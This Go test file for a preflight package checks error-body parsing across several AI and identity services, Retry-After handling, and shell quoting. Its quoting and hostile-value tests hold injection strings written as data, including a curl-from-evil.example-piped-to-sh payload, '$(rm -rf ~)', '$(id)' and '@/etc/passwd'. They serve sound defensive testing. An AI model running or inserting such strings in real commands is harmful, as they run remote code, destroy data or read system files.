package preflight

import (
	"net/http"
	"reflect"
	"strings"
	"testing"
	"time"
)

func TestReadBody(t *testing.T) {
	t.Parallel()
	for _, test := range []struct {
		name, contentType, body string
		want                    Exchange
	}{
		{"Azure OpenAI", "application/json", `{"error":{"code":"DeploymentNotFound","message":"No such deployment."}}`,
			Exchange{Code: "DeploymentNotFound", Message: "No such deployment."}},
		{"a number for a code", "application/json", `{"error":{"code":404,"message":"Resource not found"}}`,
			Exchange{Code: "404", Message: "Resource not found"}},
		{"a sentence for a code", "", `{"error":{"code":"Tenant provided in token does not match resource token","message":"Token tenant x does not match."}}`,
			Exchange{Code: "Tenant provided in token does not match resource token", Message: "Token tenant x does not match."}},
		{"OpenAI", "", `{"error":{"message":"Unsupported parameter","type":"invalid_request_error","param":"max_tokens","code":"unsupported_parameter"}}`,
			Exchange{Code: "unsupported_parameter", Message: "Unsupported parameter", Param: "max_tokens"}},
		{"only a type", "", `{"error":{"message":"Too little money","type":"insufficient_quota","param":null,"code":null}}`,
			Exchange{Code: "insufficient_quota", Message: "Too little money"}},
		{"inner error", "", `{"error":{"message":"Filtered","code":"content_filter","innererror":{"code":"ResponsibleAIPolicyViolation","content_filter_result":{"hate":{"filtered":false}}}}}`,
			Exchange{Code: "content_filter", Inner: "ResponsibleAIPolicyViolation", Message: "Filtered"}},
		{"inner_error", "", `{"error":{"message":"Filtered","code":"content_filter","inner_error":{"code":"ResponsibleAIPolicyViolation"}}}`,
			Exchange{Code: "content_filter", Inner: "ResponsibleAIPolicyViolation", Message: "Filtered"}},
		{"gateway", "", `{ "statusCode": 401, "message": "Access denied." }`, Exchange{Status: 401, Message: "Access denied."}},
		{"bare", "", `{"code":"BadRequest","message":"No."}`, Exchange{Code: "BadRequest", Message: "No."}},
		{".NET's capitals", "", `{"Code":"BadRequest","Message":"No."}`, Exchange{Code: "BadRequest", Message: "No."}},
		{"a list", "", `[{"error":{"code":"BadRequest","message":"No."}}]`, Exchange{Code: "BadRequest", Message: "No."}},
		{"FastAPI", "", `{"detail":"Not authenticated"}`, Exchange{Message: "Not authenticated"}},
		{"FastAPI's list", "", `{"detail":[{"type":"extra_forbidden","loc":["body","max_completion_tokens"],"msg":"Extra inputs are not permitted","input":16}]}`,
			Exchange{Message: "Extra inputs are not permitted (max_completion_tokens)", Param: "max_completion_tokens"}},
		{"Mistral on Foundry", "", `{"error":{"code":"Invalid input","status":422,"message":"invalid input error","details":[{"type":"extra_forbidden","loc":["body","stream_options","include_usage"],"msg":"Extra inputs are not permitted"}]}}`,
			Exchange{Code: "Invalid input", Message: "invalid input error: Extra inputs are not permitted (stream_options.include_usage)", Param: "stream_options.include_usage"}},
		{"Mistral's list in a string", "", `{"error":{"code":"Invalid input","message":"{\"detail\":[{\"type\":\"extra_forbidden\",\"loc\":[\"body\",\"user\"],\"msg\":\"Extra inputs are not permitted\"}]}","status":422}}`,
			Exchange{Code: "Invalid input", Message: "Extra inputs are not permitted (user)", Param: "user"}},
		{"Mistral's own", "", `{"object":"error","message":{"detail":[{"type":"extra_forbidden","loc":["body","user"],"msg":"Extra inputs are not permitted"}]},"type":"invalid_request_error","param":null,"code":null}`,
			Exchange{Message: "Extra inputs are not permitted (user)", Param: "user"}},
		{"IMDS", "", `{"error":"invalid_request","error_description":"Identity not found"}`, Exchange{Code: "invalid_request", Message: "Identity not found"}},
		{"Entra", "application/json; charset=utf-8", `{"error":"invalid_client","error_description":"AADSTS7000215: No.\r\nTrace ID: x","error_codes":[7000215],"error_uri":"https://login.microsoftonline.com/error?code=7000215"}`,
			Exchange{Code: "invalid_client", Message: "AADSTS7000215: No. Trace ID: x", AADSTS: []int{7000215}}},
		{"codes without a text", "", `{"error":"invalid_client","error_codes":[700213]}`, Exchange{Code: "invalid_client", AADSTS: []int{700213}}},
		{"JSON in a message", "", `{"error":{"message":"backend said: {\"error\":{\"code\":\"PermissionDenied\",\"message\":\"No role.\"}}","code":"401"}}`,
			Exchange{Code: "PermissionDenied", Message: "backend said: No role."}},
		{"JSON in JSON in JSON", "", `{"error":{"message":"{\"error\":{\"message\":\"{\\\"error\\\":{\\\"code\\\":\\\"Deep\\\",\\\"message\\\":\\\"found\\\"}}\"}}"}}`,
			Exchange{Code: "Deep", Message: "found"}},
		{"Python's repr", "", `{'error': {'code': 'PermissionDenied', 'message': "The principal's role is missing.", 'param': None}}`,
			Exchange{Code: "PermissionDenied", Message: "The principal's role is missing."}},
		{"cut", "", `{"error":{"code":"OperationNotSupported","message":"The chatCompletion operation does no`,
			Exchange{Code: "OperationNotSupported", Message: "The chatCompletion operation does no"}},
		{"masked braces", "", `***"error":***"code":"DeploymentNotFound","message":"Gone."***`, Exchange{Code: "DeploymentNotFound", Message: "Gone."}},
		{"an inner code alone is not the code", "", `{"error":{"message":"x","innererror":{"code":"Inner"`, Exchange{Inner: "Inner", Message: "x"}},
		{"HTML", "text/html; charset=utf-8", `<!DOCTYPE html><html><head><title>Sign in &amp; continue</title></head><body><h1>Hi</h1></body></html>`, Exchange{Message: "Sign in & continue"}},
		{"HTML without a title", "text/html", `<html><body><h1>502 <b>Bad Gateway</b></h1></body></html>`, Exchange{Message: "502 Bad Gateway"}},
		{"XML", "application/xml", `<?xml version="1.0"?><Error><Code>AuthorizationFailure</Code><Message>No.</Message></Error>`, Exchange{Code: "AuthorizationFailure", Message: "No."}},
		{"plain", "text/plain", "no healthy upstream\n", Exchange{Message: "no healthy upstream"}},
		{"byte order mark", "", "\ufeff" + `{"code":"x","message":"y"}`, Exchange{Code: "x", Message: "y"}},
		{"empty", "", " \n", Exchange{}},
		{"control characters", "text/plain", "a\x1b[31mb\x00c\nd##[error]e", Exchange{Message: "a [31mb c d##\u200b[error]e"}},
	} {
		var got Exchange
		readBody(&got, test.contentType, []byte(test.body), scrubTokens)
		if !reflect.DeepEqual(got, test.want) {
			t.Errorf("%s: got %+v, want %+v", test.name, got, test.want)
		}
	}
}

func TestReadBodyKeepsWhatTheBodyLeavesOut(t *testing.T) {
	t.Parallel()
	x := Exchange{Status: 503, Code: "before", Message: "before"}
	readBody(&x, "", []byte(`{"statusCode":401}`), scrubTokens)
	if x.Status != 503 || x.Code != "before" {
		t.Errorf("got %+v", x)
	}
}

func TestReadBodyIsBounded(t *testing.T) {
	t.Parallel()
	deep := strings.Repeat(`{"error":`, 100000) + `1` + strings.Repeat(`}`, 100000)
	long := `{"error":{"message":"` + strings.Repeat("x", 1<<20) + `","code":"` + strings.Repeat("y", 1<<20) + `"}}`
	for _, body := range []string{deep, long, strings.Repeat(`\"`, 1<<19), strings.Repeat("<", 1<<20), strings.Repeat("AADSTS700213 ", 1<<16)} {
		var x, start Exchange
		readBody(&x, "", []byte(body), scrubTokens)
		// However long it is, no more is read than its start.
		readBody(&start, "", []byte(body[:min(len(body), maxErrorBody)]), scrubTokens)
		if !reflect.DeepEqual(x, start) {
			t.Errorf("%.20q… is read past %d bytes", body, maxErrorBody)
		}
		if len(x.Message) > maxErrorText || len(x.Code) > 200 || len(x.AADSTS) > 8 {
			t.Errorf("%.20q… is kept at length %d, %d, %d", body, len(x.Message), len(x.Code), len(x.AADSTS))
		}
	}
}

func TestRetryAfter(t *testing.T) {
	t.Parallel()
	for _, test := range []struct {
		header map[string]string
		want   time.Duration
	}{
		{nil, 0},
		{map[string]string{"retry-after": "7"}, 7 * time.Second},
		{map[string]string{"retry-after": " 86400 "}, 24 * time.Hour},
		{map[string]string{"retry-after-ms": "1500", "retry-after": "2"}, 1500 * time.Millisecond},
		{map[string]string{"x-ms-retry-after-ms": "250"}, 250 * time.Millisecond},
		{map[string]string{"retry-after": caseNow.Add(90 * time.Second).Format(http.TimeFormat)}, 90 * time.Second},
		{map[string]string{"retry-after": caseNow.Add(-time.Hour).Format(http.TimeFormat)}, 0},
		{map[string]string{"retry-after": caseNow.Add(90 * time.Second).Format(http.TimeFormat), "date": caseNow.Add(time.Minute).Format(http.TimeFormat)}, 30 * time.Second},
		{map[string]string{"retry-after": "soon"}, 0},
		{map[string]string{"retry-after": "-5"}, 0},
		{map[string]string{"retry-after": "NaN"}, 0},
		{map[string]string{"retry-after": "1e300"}, 0},
		{map[string]string{"retry-after-ms": "1e11"}, 366 * 24 * time.Hour}, // and no overflow
	} {
		if got := retryAfter(test.header, caseNow); got != test.want {
			t.Errorf("%v: got %s, want %s", test.header, got, test.want)
		}
	}
}

func TestShellQuote(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"":                           "''",
		"plain-1.2_3/4:5,6=7+8%9":    "plain-1.2_3/4:5,6=7+8%9",
		"<client-id>":                "'<client-id>'",
		"it's":                       `'it'\''s'`,
		"$(rm -rf ~)":                "'$(rm -rf ~)'",
		"`id`":                       "'`id`'",
		"a;b":                        "'a;b'",
		"~root":                      "'~root'",
		`{"subject":"repo:o/r:x y"}`: `'{"subject":"repo:o/r:x y"}'`,
	} {
		if got := shellQuote(in); got != want {
			t.Errorf("%q: got %s, want %s", in, got, want)
		}
	}
}

// TestHostileValues: nothing that a service or a file says may become a second
// command, an option, or a file that az reads.
func TestHostileValues(t *testing.T) {
	t.Parallel()
	for _, value := range []string{"x'; curl evil.example | sh; '", "$(id)", "@/etc/passwd", "--help", "a\nb", "\x1b[2Jx", "x\u202ey", "##[error]x"} {
		e := healthy()
		token := e.Token
		atEntra(401, 700213, nil)(e)
		e.Token = token
		e.Assertion.Subject, e.Assertion.Issuer, e.Setup.ClientID, e.Job.Repository = value, value, value, value
		for _, c := range Catalogue {
			for _, line := range c.Remedy(e).Commands {
				words, ok := shellWords(line)
				if !ok || strings.ContainsAny(line, "\n\x1b\u202e") {
					t.Errorf("%s: %q does not quote %q", c.ID, line, value)
				}
				for _, w := range words[1:] {
					if w == value && (value[0] == '@' || value[0] == '-') {
						t.Errorf("%s: %q hands %q to the command", c.ID, line, value)
					}
				}
			}
		}
	}
}

// shellWords splits a line as a shell does, as far as these commands go. It
// reports false when something hostile would be left outside of quotes.
func shellWords(line string) (words []string, ok bool) {
	word, quoted := "", false
	for _, r := range line {
		switch {
		case r == '\'':
			quoted = !quoted
		case quoted:
			word += string(r)
		case r == ' ':
			words, word = append(words, word), ""
		default:
			word += string(r)
		}
	}
	return append(words, word), !quoted && !strings.Contains(outside(line), "evil")
}

// outside is what a shell sees of a line outside of single quotes.
func outside(line string) string {
	var b strings.Builder
	for i, part := range strings.Split(strings.ReplaceAll(line, `'\''`, ""), "'") {
		if i%2 == 0 {
			b.WriteString(part)
		}
	}
	return b.String()
}
